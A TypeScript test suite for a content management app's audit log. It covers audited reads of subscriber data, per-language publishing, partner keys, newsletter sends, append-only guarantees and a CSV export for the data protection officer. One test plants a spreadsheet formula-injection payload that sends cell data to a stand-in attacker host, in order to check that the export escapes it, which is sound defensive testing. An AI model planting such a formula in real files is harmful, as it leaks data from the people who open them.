import { createLocalReq, type Payload, type Where } from 'payload'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import type { Role } from '@/access/roles'
import { recordAudit } from '@/audit/recordAudit'
import type { AuditLog, User } from '@/payload-types'
import { appPool } from '@/platform/database/pool'
import { inTransaction } from '@/platform/database/transaction'
import { applyRetention } from '@/privacy/applyRetention'

import { graphql, login, rest } from '../helpers/api'
import { createIssue } from '../helpers/newsletter'
import { createPartner } from '../helpers/partners'
import { bootPayload } from '../helpers/payload'
import { eventTimes, joinRequestData } from '../helpers/permissionTargets'
import { createUser, testPassword } from '../helpers/users'

let payload: Payload
let cluster: number
const staff = {} as Record<Role, { user: User; token: string }>
const roles = ['translator', 'clusterEditor', 'editor', 'admin'] as const

beforeAll(async () => {
  payload = await bootPayload()
  cluster = (
    await payload.create({
      collection: 'clusters',
      locale: 'fi',
      data: { name: 'Lokiklusteri', slug: 'lokiklusteri', displayOrder: 1 },
    })
  ).id
  for (const role of roles) {
    const user = await createUser(payload, role, `${role}@audit.example.test`)
    if (role === 'clusterEditor') {
      await payload.update({ collection: 'users', id: user.id, data: { clusters: [cluster] } })
    }
    staff[role] = { user, token: await login(user.email, testPassword) }
  }
})

afterAll(async () => {
  await payload?.destroy()
})

const allRows = async (where: Where = {}) =>
  (
    await payload.find({
      collection: 'audit-log',
      where,
      sort: 'id',
      pagination: false,
      depth: 0,
    })
  ).docs

const lastId = async () => (await allRows()).at(-1)?.id ?? 0

type Left<T> = { rows: AuditLog[]; result: T; from: Date; to: Date }

/** The rows an action left, its answer, and when it ran. */
async function rowsLeftBy<T>(action: () => Promise<T>): Promise<Left<T>> {
  const before = await lastId()
  const from = new Date()
  const result = await action()
  const to = new Date()
  return { rows: await allRows({ id: { greater_than: before } }), result, from, to }
}

const as = (role: Role, requestId?: string) => ({
  token: staff[role].token,
  headers: requestId ? { 'X-Request-Id': requestId } : undefined,
})

/** One row, by this staff member, while the action ran, in its request, from an address. */
function expectOneRow(
  { rows, from, to }: Left<unknown>,
  role: Role,
  fields: Partial<AuditLog>,
  requestId?: string,
) {
  expect(rows, JSON.stringify(rows)).toHaveLength(1)
  const [row] = rows
  expect(row).toMatchObject({
    actor: staff[role].user.id,
    actorEmail: staff[role].user.email,
    actorRoles: role,
    ...fields,
  })
  const time = new Date(row!.time).getTime()
  expect(time).toBeGreaterThanOrEqual(from.getTime())
  expect(time).toBeLessThanOrEqual(to.getTime())
  expect(row!.requestId).toBeTruthy()
  if (requestId) expect(row!.requestId).toBe(requestId)
  expect(row!.clientAddress).toBeTruthy()
  return row!
}

const subscriber = () =>
  payload.create({
    collection: 'subscribers',
    data: { email: `lukija-${Date.now()}@example.test`, locale: 'fi', status: 'confirmed' },
  })

const joinRequest = () =>
  payload.create({ collection: 'joinRequests', data: joinRequestData(cluster) as never })

describe('staff reading personal data', () => {
  it('the subscriber list and one subscriber over REST: one row per request, not per document', async () => {
    const [first, second] = [await subscriber(), await subscriber()]
    // As the one trusted proxy of the tests' settings tells the client's address.
    const viaProxy = { headers: { 'X-Request-Id': 'list-req-1', 'X-Forwarded-For': '203.0.113.7' } }
    const list = await rowsLeftBy(() =>
      rest('subscribers?limit=10', { ...as('editor'), ...viaProxy }),
    )
    expect(list.result.status).toBe(200)
    const row = expectOneRow(
      list,
      'editor',
      { action: 'viewList', targetCollection: 'subscribers', clientAddress: '203.0.113.7' },
      'list-req-1',
    )
    expect((row.detail as { ids: number[] }).ids).toEqual(
      expect.arrayContaining([first.id, second.id]),
    )
    expect(list.result.headers.get('x-request-id')).toBe('list-req-1')

    const one = await rowsLeftBy(() => rest(`subscribers/${first.id}`, as('editor', 'doc-req-1')))
    expect(one.result.status).toBe(200)
    expectOneRow(
      one,
      'editor',
      { action: 'viewDocument', targetCollection: 'subscribers', targetId: String(first.id) },
      'doc-req-1',
    )
  })

  it('the subscriber list over GraphQL and the Local API with the caller’s access', async () => {
    await subscriber()
    const query = await rowsLeftBy(() =>
      graphql('{ Subscribers { docs { id email } } }', as('admin', 'graphql-req-1')),
    )
    expect(query.result.status).toBe(200)
    expectOneRow(
      query,
      'admin',
      { action: 'viewList', targetCollection: 'subscribers' },
      'graphql-req-1',
    )

    // As the admin UI reads its list views.
    const user = { ...staff.editor.user, collection: 'users' as const }
    const local = await rowsLeftBy(() =>
      payload.find({ collection: 'subscribers', overrideAccess: false, user }),
    )
    expectOneRow(local, 'editor', { action: 'viewList', targetCollection: 'subscribers' })

    // The app's own reads (full access) are not a person reading.
    const own = await rowsLeftBy(() => payload.find({ collection: 'subscribers' }))
    expect(own.rows).toEqual([])
  })

  it('join requests, by a cluster editor; a refused read leaves no row', async () => {
    const request = await joinRequest()
    const list = await rowsLeftBy(() => rest('joinRequests', as('clusterEditor')))
    expect(list.result.status).toBe(200)
    expectOneRow(list, 'clusterEditor', {
      action: 'viewList',
      targetCollection: 'joinRequests',
    })
    const one = await rowsLeftBy(() => rest(`joinRequests/${request.id}`, as('clusterEditor')))
    expectOneRow(one, 'clusterEditor', {
      action: 'viewDocument',
      targetCollection: 'joinRequests',
      targetId: String(request.id),
    })
    const refused = await rowsLeftBy(() => rest(`joinRequests/${request.id}`, as('translator')))
    expect(refused.result.status).toBe(403)
    expect(refused.rows).toEqual([])
  })

  it('the join requests CSV: one export row, not a list view besides', async () => {
    await joinRequest()
    const csv = await rowsLeftBy(() => rest('reports/join-requests.csv', as('editor')))
    expect(csv.result.status).toBe(200)
    const row = expectOneRow(csv, 'editor', {
      action: 'export',
      targetCollection: 'joinRequests',
    })
    expect((row.detail as { rows: number }).rows).toBeGreaterThan(0)
  })
})

/** Saves `news` or `events` as the editor over REST. */
const save = (slug: string, id: number, query: string, body: Record<string, unknown>) =>
  rest(`${slug}/${id}?${query}`, { ...as('editor'), method: 'PATCH', body })

describe('publishing per language', () => {
  it('news: a row for the language published, and for the one withdrawn', async () => {
    const item = await payload.create({
      collection: 'news',
      locale: 'fi',
      data: { title: 'Lokiuutinen', clusters: [cluster], _status: 'published' } as never,
    })
    const published = await rowsLeftBy(() =>
      save('news', item.id, 'locale=sv', { title: 'Loggnyhet', _status: 'published' }),
    )
    expect(published.result.status).toBe(200)
    expectOneRow(published, 'editor', {
      action: 'publish',
      targetCollection: 'news',
      targetId: String(item.id),
      locale: 'sv',
    })

    const edited = await rowsLeftBy(() => save('news', item.id, 'locale=sv', { summary: 'Ny' }))
    expect(edited.result.status).toBe(200)
    expect(edited.rows).toEqual([])

    const withdrawn = await rowsLeftBy(() =>
      save('news', item.id, 'locale=fi', { _status: 'draft' }),
    )
    expectOneRow(withdrawn, 'editor', {
      action: 'unpublish',
      targetId: String(item.id),
      locale: 'fi',
    })
  })

  it('every language at once: a row per language that changed', async () => {
    const item = await payload.create({
      collection: 'news',
      locale: 'fi',
      draft: true,
      data: { title: 'Kaikki kielet', clusters: [cluster], _status: 'draft' } as never,
    })
    for (const [locale, title] of [
      ['sv', 'Alla språk'],
      ['en', 'All languages'],
    ] as const) {
      await payload.update({
        collection: 'news',
        id: item.id,
        locale,
        draft: true,
        data: { title, _status: 'draft' },
      })
    }
    const all = await rowsLeftBy(() =>
      save('news', item.id, 'locale=sv&publishAllLocales=true', { _status: 'published' }),
    )
    expect(all.result.status).toBe(200)
    expect(all.rows.map((row) => [row.action, row.locale]).sort()).toEqual([
      ['publish', 'en'],
      ['publish', 'fi'],
      ['publish', 'sv'],
    ])
  })

  it('events too; a save by the app itself (no staff member) leaves none', async () => {
    const event = await payload.create({
      collection: 'events',
      locale: 'fi',
      draft: true,
      data: { title: 'Lokitapahtuma', ...eventTimes(), clusters: [cluster], _status: 'draft' },
    } as never)
    const published = await rowsLeftBy(() =>
      save('events', (event as { id: number }).id, 'locale=fi', { _status: 'published' }),
    )
    expect(published.result.status).toBe(200)
    expectOneRow(published, 'editor', {
      action: 'publish',
      targetCollection: 'events',
      locale: 'fi',
    })
    const bySystem = await rowsLeftBy(() =>
      payload.update({
        collection: 'events',
        id: (event as { id: number }).id,
        locale: 'fi',
        data: { _status: 'draft' },
      }),
    )
    expect(bySystem.rows).toEqual([])
  })
})

describe('partner keys and newsletters', () => {
  it('issuing and revoking a partner key', async () => {
    const { partner } = await createPartner(payload, staff.admin.token)
    const issued = await rowsLeftBy(() =>
      rest(`partners/${partner.id}/rotate-key`, { ...as('admin'), method: 'POST', body: {} }),
    )
    expect(issued.result.status).toBe(200)
    const { prefix } = (await issued.result.json()) as { prefix: string }
    expectOneRow(issued, 'admin', {
      action: 'issuePartnerKey',
      targetCollection: 'partners',
      targetId: String(partner.id),
      detail: { prefix, graceHours: 24 },
    })
    const revoked = await rowsLeftBy(() =>
      rest(`partners/${partner.id}/revoke-key`, { ...as('admin'), method: 'POST', body: {} }),
    )
    expect(revoked.result.status).toBe(200)
    expectOneRow(revoked, 'admin', {
      action: 'revokePartnerKey',
      targetId: String(partner.id),
    })
  })

  it('sending a newsletter: one row; a second click sends nothing and records nothing', async () => {
    const issue = await createIssue(payload)
    const send = () =>
      rest(`newsletters/${issue.id}/send`, { ...as('editor'), method: 'POST', body: {} })
    const sent = await rowsLeftBy(send)
    expect(sent.result.status).toBe(202)
    expectOneRow(sent, 'editor', {
      action: 'sendNewsletter',
      targetCollection: 'newsletters',
      targetId: String(issue.id),
    })
    const again = await rowsLeftBy(send)
    expect(again.result.status).toBe(409)
    expect(again.rows).toEqual([])
  })
})

describe('recordAudit', () => {
  const editorReq = () =>
    createLocalReq({ user: { ...staff.editor.user, collection: 'users' } }, payload)

  it('writes in the caller’s transaction: an action rolled back leaves no row', async () => {
    const req = await editorReq()
    const failed = await rowsLeftBy(() =>
      inTransaction(req, async () => {
        await recordAudit(req, { action: 'erase', targetCollection: 'subscribers', targetId: 1 })
        throw new Error('the erasure failed')
      }).catch((error: Error) => error.message),
    )
    expect(failed.result).toBe('the erasure failed')
    expect(failed.rows).toEqual([])
  })

  it('throws when the row cannot be written, so the action does not pass unrecorded', async () => {
    const req = await editorReq()
    await expect(recordAudit(req, { action: 'noSuchAction' as 'erase' })).rejects.toThrow()
  })
})

describe('append-only', () => {
  let row: AuditLog
  beforeAll(async () => {
    const req = await createLocalReq(
      { user: { ...staff.admin.user, collection: 'users' } },
      payload,
    )
    await recordAudit(req, { action: 'export', targetCollection: 'subscribers' })
    row = (await allRows()).at(-1)!
  })
  const unchanged = async () =>
    expect(await payload.findByID({ collection: 'audit-log', id: row.id, depth: 0 })).toEqual(row)

  it.each(roles)('no REST or GraphQL call by %s changes or deletes a row', async (role) => {
    const token = as(role)
    const calls = [
      rest(`audit-log/${row.id}`, { ...token, method: 'PATCH', body: { targetId: 'x' } }),
      rest(`audit-log?where[id][equals]=${row.id}`, {
        ...token,
        method: 'PATCH',
        body: { targetId: 'x' },
      }),
      rest(`audit-log/${row.id}`, { ...token, method: 'DELETE' }),
      rest(`audit-log?where[id][equals]=${row.id}`, { ...token, method: 'DELETE' }),
    ]
    for (const response of await Promise.all(calls)) {
      expect([403, 404]).toContain(response.status)
    }
    const mutations = [
      `mutation { updateAuditLog(id: ${row.id}, data: { targetId: "x" }) { id } }`,
      `mutation { deleteAuditLog(id: ${row.id}) { id } }`,
    ]
    for (const mutation of mutations) {
      const body = (await (await graphql(mutation, token)).json()) as { errors?: unknown[] }
      expect(body.errors?.length, mutation).toBeGreaterThan(0)
    }
    const created = await rest('audit-log', {
      ...token,
      method: 'POST',
      body: { time: new Date().toISOString(), action: 'export' },
    })
    expect(created.status).toBe(403)
    await unchanged()
  })

  it.each(roles)('nor does the Local API with the access of %s', async (role) => {
    const user = { ...staff[role].user, collection: 'users' as const }
    const options = { collection: 'audit-log' as const, overrideAccess: false, user }
    await expect(
      payload.update({ ...options, id: row.id, data: { targetId: 'x' } }),
    ).rejects.toThrow()
    await expect(payload.delete({ ...options, id: row.id })).rejects.toThrow()
    await expect(
      payload.delete({ ...options, where: { id: { equals: row.id } } }),
    ).rejects.toThrow()
    await unchanged()
  })

  it('nor raw SQL, nor the app’s own full access; retention alone deletes old rows', async () => {
    const pool = appPool(payload)
    await expect(
      pool.query(`UPDATE audit_log SET target_id = 'x' WHERE id = $1`, [row.id]),
    ).rejects.toThrow(/append-only/)
    await expect(pool.query('DELETE FROM audit_log WHERE id = $1', [row.id])).rejects.toThrow(
      /append-only/,
    )
    await expect(
      payload.update({ collection: 'audit-log', id: row.id, data: { targetId: 'x' } }),
    ).rejects.toThrow()
    await unchanged()

    const { rows: old } = await pool.query<{ id: number }>(
      `INSERT INTO audit_log (time, action) VALUES (now() - interval '25 months', 'export') RETURNING id`,
    )
    const run = await applyRetention(payload)
    expect(
      run.kind === 'done' && run.results.find(({ rule }) => rule === 'auditLog'),
    ).toMatchObject({ count: 1 })
    // The setting lasted only for the run's transaction: the trigger refuses again.
    await expect(pool.query('DELETE FROM audit_log WHERE id = $1', [row.id])).rejects.toThrow(
      /append-only/,
    )
    const { rowCount } = await pool.query('SELECT 1 FROM audit_log WHERE id = ANY($1)', [
      [old[0]!.id, row.id],
    ])
    expect(rowCount).toBe(1)
  })

  it('a deleted account’s rows stay, with the address copied at the time', async () => {
    const leaving = await createUser(payload, 'editor', 'lahtija@audit.example.test')
    const req = await createLocalReq({ user: { ...leaving, collection: 'users' } }, payload)
    await recordAudit(req, { action: 'export', targetCollection: 'subscribers' })
    const written = (await allRows()).at(-1)!
    await payload.delete({ collection: 'users', id: leaving.id })
    const kept = await payload.findByID({ collection: 'audit-log', id: written.id })
    expect(kept).toMatchObject({ actor: null, actorEmail: 'lahtija@audit.example.test' })
  })
})

describe('who reads the log', () => {
  it('staff read their own rows, admins all', async () => {
    await rest('subscribers', as('editor'))
    await rest('joinRequests', as('clusterEditor'))
    const actorsSeen = async (role: Role) => {
      const response = await rest('audit-log?limit=0&depth=0', as(role))
      expect(response.status).toBe(200)
      const { docs } = (await response.json()) as { docs: AuditLog[] }
      return new Set(docs.map((doc) => doc.actor))
    }
    expect(await actorsSeen('editor')).toEqual(new Set([staff.editor.user.id]))
    expect(await actorsSeen('clusterEditor')).toEqual(new Set([staff.clusterEditor.user.id]))
    const everyone = await actorsSeen('admin')
    expect(everyone).toContain(staff.editor.user.id)
    expect(everyone).toContain(staff.clusterEditor.user.id)
    const anonymous = await rest('audit-log')
    expect(anonymous.status).toBe(403)
  })
})

/** RFC 4180 records of a CSV text (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const field = /"((?:[^"]|"")*)"|([^",\r\n]*)/y
  const rows: string[][] = []
  let row: string[] = []
  let at = 0
  while (at < text.length) {
    field.lastIndex = at
    const match = field.exec(text)!
    row.push(match[1] === undefined ? match[2]! : match[1].replaceAll('""', '"'))
    at = field.lastIndex
    if (text[at] === ',') at += 1
    else {
      rows.push(row)
      row = []
      at += text.startsWith('\r\n', at) ? 2 : 1
    }
  }
  return rows
}

describe('the CSV export for the data protection officer', () => {
  it('is escaped and safe to open in a spreadsheet, and is audited itself', async () => {
    const hostile = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
    const req = await createLocalReq(
      { user: { ...staff.editor.user, collection: 'users' } },
      payload,
    )
    await recordAudit(req, {
      action: 'export',
      targetCollection: 'subscribers',
      targetId: hostile,
      detail: { note: 'rivi\r\nkaksi, "lainaus"', formula: '+SUM(1)' },
    })
    const exported = await rowsLeftBy(() => rest('audit-log/export.csv', as('admin')))
    const response = exported.result
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    const bytes = new Uint8Array(await response.arrayBuffer())
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const text = new TextDecoder().decode(bytes).replace(/^\uFEFF/, '')
    const [header, ...rows] = parseCsv(text)
    expect(header![0]).toBe('time')
    const hostileRow = rows.find((row) => row[header!.indexOf('targetId')] === `'${hostile}`)
    expect(hostileRow, text).toBeDefined()
    expect(JSON.parse(hostileRow![header!.indexOf('detail')]!)).toEqual({
      note: 'rivi\r\nkaksi, "lainaus"',
      formula: '+SUM(1)',
    })
    expect(text).not.toMatch(/(^|,)=HYPERLINK/m)
    expectOneRow(exported, 'admin', { action: 'export', targetCollection: 'audit-log' })
  })

  it('takes a period of days, refuses a wrong one in the caller’s language, and non-admins', async () => {
    const today = new Date().toISOString().slice(0, 10)
    const ok = await rest(`audit-log/export.csv?from=2020-01-01&to=${today}`, as('admin'))
    expect(ok.status).toBe(200)
    const none = await rest('audit-log/export.csv?from=2020-01-01&to=2020-01-31', as('admin'))
    expect(parseCsv((await none.text()).replace(/^\uFEFF/, ''))).toHaveLength(1)
    const wrong = await rest('audit-log/export.csv?from=2026-02-31', {
      ...as('admin'),
      headers: { 'Accept-Language': 'fi' },
    })
    expect(wrong.status).toBe(400)
    expect(JSON.stringify(await wrong.json())).toContain('VVVV-KK-PP')
    for (const role of ['translator', 'clusterEditor', 'editor'] as const) {
      expect((await rest('audit-log/export.csv', as(role))).status).toBe(403)
    }
  })
})
